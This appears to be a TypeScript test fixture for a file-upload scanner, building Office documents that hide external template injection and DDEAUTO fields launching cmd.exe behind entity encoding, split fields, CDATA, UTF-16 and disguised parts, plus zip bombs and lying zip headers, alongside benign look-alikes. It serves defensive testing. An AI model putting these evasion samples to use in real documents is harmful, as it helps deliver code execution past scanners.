/** Office documents that hide what they bring in or start from who looks for it, and right ones that look like them. */
import { zip } from "../support/zip.ts";
import { sheet, word, type HostileFile, type RightFile } from "./hostile-files.ts";

const office = "application/vnd.openxmlformats-officedocument";
const docx = `${office}.wordprocessingml.document`;
const kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const template = `Type="${kind}/attachedTemplate" Target="http://a.example/t.dotm"`;
const outside = `${template} TargetMode="External"`;
const relations = "word/_rels/settings.xml.rels";
const rels = (one: string): string => `<Relationships>${one}</Relationships>`;

/** Relationships that bring in a template from elsewhere. */
const templates: [what: string, text: string | Buffer, sentence?: string][] = [
  ["with a prefix", rels(`<p:Relationship Id="1" ${outside}/>`)],
  ["with a sign by its number", rels(`<Relationship Id="1" ${template} TargetMode="&#69;xternal"/>`)],
  ["with a sign by its number in hex", rels(`<Relationship Id="1" ${template} TargetMode="E&#x78;ternal"/>`)],
  ["behind a sign that ends no tag", rels(`<Relationship Id="a>b" ${outside}/>`)],
  ["beside the type of a link", rels(`<Relationship Foo='relationships/hyperlink"' ${outside}/>`)],
  [
    "of a type that ends as a link's begins",
    rels(`<Relationship Type="${kind}/hyperlink/x" TargetMode="External"/>`),
  ],
  ["in quotes of the other kind", rels(`<Relationship Id='1' ${outside.replaceAll('"', "'")}/>`)],
  ["behind a comment with a quote", rels(`<!-- " --><Relationship Id="1" ${outside}/>`)],
  ["in UTF-16", Buffer.from(`\uFEFF${rels(`<Relationship ${outside}/>`)}`, "utf16le"), "file-type.damaged"],
  [
    "in UTF-16 without a mark",
    Buffer.from(rels(`<Relationship ${outside}/>`), "utf16le"),
    "file-type.damaged",
  ],
  ["in another encoding", `<?xml version="1.0" encoding="UTF-7"?>${rels("")}`, "file-type.damaged"],
  ["twice in one tag", rels(`<Relationship ${outside} TargetMode="Internal"/>`), "file-type.damaged"],
  ["by a name of its own", `<!DOCTYPE a [<!ENTITY e "External">]>${rels("")}`, "file-type.damaged"],
  ["by an address alone", rels(`<Relationship ${template}/>`)],
  ["that is a file inside", rels(`<Relationship Type="${kind}/aFChunk" Target="a.xml"/>`)],
];

const code = (text: string): string => `<w:r><w:instrText>${text}</w:instrText></w:r>`;
const mark = (what: string): string => `<w:r><w:fldChar w:fldCharType="${what}"/></w:r>`;
const field = (...inside: string[]): string => `${mark("begin")}${inside.join("")}${mark("end")}`;
const body = (text: string): string => `<w:document><w:body><w:p>${text}</w:p></w:body></w:document>`;
const command = "c:\\\\cmd.exe";

/** Texts with a field that starts a program. */
const fields: [what: string, text: string][] = [
  ["with a sign by its number", body(code(`D&#68;EAUTO ${command}`))],
  ["in small letters", body(field(code(`ddeauto ${command}`)))],
  ["behind other text", body(`<w:t>hola</w:t>${field(code("DDE"), code(`AUTO ${command}`))}`)],
  ["in another field", body(field(code("IF 1=1"), field(code(`DDEAUTO ${command}`))))],
  ["around another field", body(field(code("DD"), field(code("QUOTE 1")), code(`E ${command}`)))],
  ["with what was deleted", body(field(code("DD"), "<w:delInstrText>X</w:delInstrText>", code("E cmd")))],
  [
    "with what is passed over",
    body(field(code("D"), "<x:a><w:instrText>y</w:instrText></x:a>", code("DEAUTO"))),
  ],
  ["in texts", body(field(`<w:r><w:t>DDEAUTO ${command}</w:t></w:r>`))],
  ["in a simple field", body(`<w:fldSimple w:instr="D&#x44;E ${command}">x</w:fldSimple>`)],
  [
    "in the second simple field",
    body(`<w:fldSimple w:instr="PAGE"/><w:fldSimple w:instr="DDE ${command}"/>`),
  ],
  ["with another prefix", body(`<x:instrText>DDE ${command}</x:instrText>`)],
  ["as it is", body(`<w:instrText><![CDATA[DDE]]> ${command}</w:instrText>`)],
];
const starting = fields[0]![1];
const main = `${docx}.main+xml`;
const named = (part: string, type = main): string =>
  `<Types><Override PartName="/${part}" ContentType="${type}"/></Types>`;

const megabytes = (count: number): string => " ".repeat(count * 1024 * 1024);
const many = Object.fromEntries(Array.from({ length: 300 }, (_, index) => [`a${index}.rels`, ""]));
const bomb = { "a.rels": megabytes(15), ...many };
const plain = { "[Content_Types].xml": "<Types/>", "word/document.xml": "<w/>" };
const oneForAll = Object.fromEntries(
  Object.keys(many).map((name) => [name, { at: 0, size: 1000, packed: 15_000 }]),
);

export const hostileOffice: HostileFile[] = [
  ...templates.map(([what, text, sentence = "file-type.active"]): HostileFile => [
    `a template from elsewhere, ${what}`,
    "a.docx",
    word({ [relations]: text }),
    sentence,
  ]),
  ...fields.map(([what, text]): HostileFile => [
    `a field that starts a program, ${what}`,
    "a.docx",
    word({ "word/document.xml": text }),
    "file-type.active",
  ]),
  [
    "such a field in another part",
    "a.docx",
    word({ "[Content_Types].xml": named("word/main.xml"), "word/main.xml": starting }),
    "file-type.active",
  ],
  [
    "such a field in a part that looks like a picture",
    "a.docx",
    word({ "[Content_Types].xml": named("word/media/a.png"), "word/media/a.png": starting }),
    "file-type.active",
  ],
  [
    "such a field far behind",
    "a.docx",
    word({ "word/a.xml": " ".repeat(70_000) + starting }),
    "file-type.active",
  ],
  [
    "a part in UTF-16",
    "a.docx",
    word({ "word/a.xml": Buffer.from(starting, "utf16le") }),
    "file-type.damaged",
  ],
  [
    "a sheet with another by its type",
    "a.xlsx",
    sheet({
      "[Content_Types].xml": named("xl/a.xml", `${office}.spreadsheetml.externalLink+xml`),
      "xl/a.xml": "<a/>",
    }),
    "file-type.active",
  ],
  [
    "a name with signs by their number",
    "a.docx",
    word({ "word/%65mbeddings/a.xml": "x" }),
    "file-type.active",
  ],
  [
    "relationships in pieces",
    "a.docx",
    word({ "word/_rels/a.xml.rels/[0].piece": "x" }),
    "file-type.damaged",
  ],
  ["relationships without measure", "a.docx", word({ [relations]: megabytes(3) }), "file-too-large.unpacked"],
  [
    "a text without measure",
    "a.docx",
    word({ "word/a.xml": `<a>${"0123456789\n".repeat(1_600_000)}` }),
    "file-too-large.unpacked",
  ],
  ["one entry for many", "a.docx", zip({ ...plain, ...bomb }, oneForAll), "file-type.damaged"],
  [
    "an entry that is larger than it says",
    "a.docx",
    zip({ ...plain, a: megabytes(2) }, { a: { size: 9 } }),
    "file-too-large.unpacked",
  ],
  [
    "an entry that is smaller than it says",
    "a.docx",
    zip({ ...plain, a: "x" }, { a: { size: 9 } }),
    "file-type.damaged",
  ],
  [
    "an entry that goes on in the next",
    "a.docx",
    zip({ ...plain, a: "x", b: "y" }, { a: { packed: 40 } }),
    "file-type.damaged",
  ],
];

export const rightOffice: RightFile[] = [
  ["a document with fields", body(field(code(" PAGE "), mark("separate"), "<w:t>1</w:t>"))],
  [
    "a document that speaks of DDE",
    body(
      `<w:t>DDEAUTO</w:t>${field(code('HYPERLINK "https://a.example/addde"'), mark("separate"), "<w:t>DDE</w:t>")}`,
    ),
  ],
  [
    "a document with all kinds of XML",
    `\uFEFF<?xml version="1.0" encoding="utf-8"?><!-- <a --><w:p a='"&gt;'>&amp;</w:p>`,
  ],
].map(([what, text]): RightFile => [what!, "a.docx", word({ "word/document.xml": text! }), docx]);
rightOffice.push([
  "a document with a drawing that has a type",
  "a.docx",
  word({
    "[Content_Types].xml": '<Types><Default Extension="svg" ContentType="image/svg+xml"/></Types>',
    "word/media/a.svg": "<!DOCTYPE svg><a/>",
  }),
  docx,
]);
